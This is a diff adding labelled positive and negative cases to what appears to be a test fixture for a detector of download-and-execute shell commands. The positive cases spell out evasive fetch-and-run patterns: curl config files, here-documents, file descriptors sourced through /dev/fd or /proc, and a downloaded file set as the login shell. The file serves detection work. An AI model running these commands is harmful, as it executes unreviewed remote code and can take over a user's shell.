@@ -498,3 +498,38 @@ usermod --shell /usr/local/sbin/ms svc
 #@ neg an installed shell made the login shell
 chsh -s /usr/bin/zsh
 usermod -s /usr/sbin/nologin svc
+#@ pos a curl config written by a here-document names the file run
+cat > c.cfg <<E
+url = "https://example.com/a.sh"
+output = "/tmp/a.sh"
+E
+curl -K c.cfg
+bash /tmp/a.sh
+#@ pos the config file written by tee, given with --config
+tee d.cfg >/dev/null <<E
+--url https://example.com/u
+--output /tmp/u
+E
+curl --config d.cfg
+sh /tmp/u
+#@ neg a curl config downloading data that is listed, not run
+cat > c.cfg <<E
+url = "https://example.com/a.tar.gz"
+output = "a.tar.gz"
+E
+curl -K c.cfg
+tar -tzf a.tar.gz
+#@ pos a descriptor opened on a download, sourced through /dev/fd
+exec {fd}< <(curl -fsSL https://example.com/h.sh)
+source "/dev/fd/$fd"
+#@ pos a download on a numbered descriptor, run through /proc/$$/fd
+exec 9< <(wget -qO- https://example.com/h.sh)
+bash "/proc/$$/fd/9"
+#@ neg a descriptor opened on local output, sourced
+exec {fd}< <(printf 'JOBS=%s\n' 4)
+source "/dev/fd/$fd"
+#@ pos a downloaded file made the login shell with --shell= in one word
+curl -fsSL -o ~/.local/bin/t https://example.com/t
+chsh --shell="$HOME/.local/bin/t"
+#@ neg an installed shell given with --shell= in one word
+chsh --shell="$(command -v fish)"
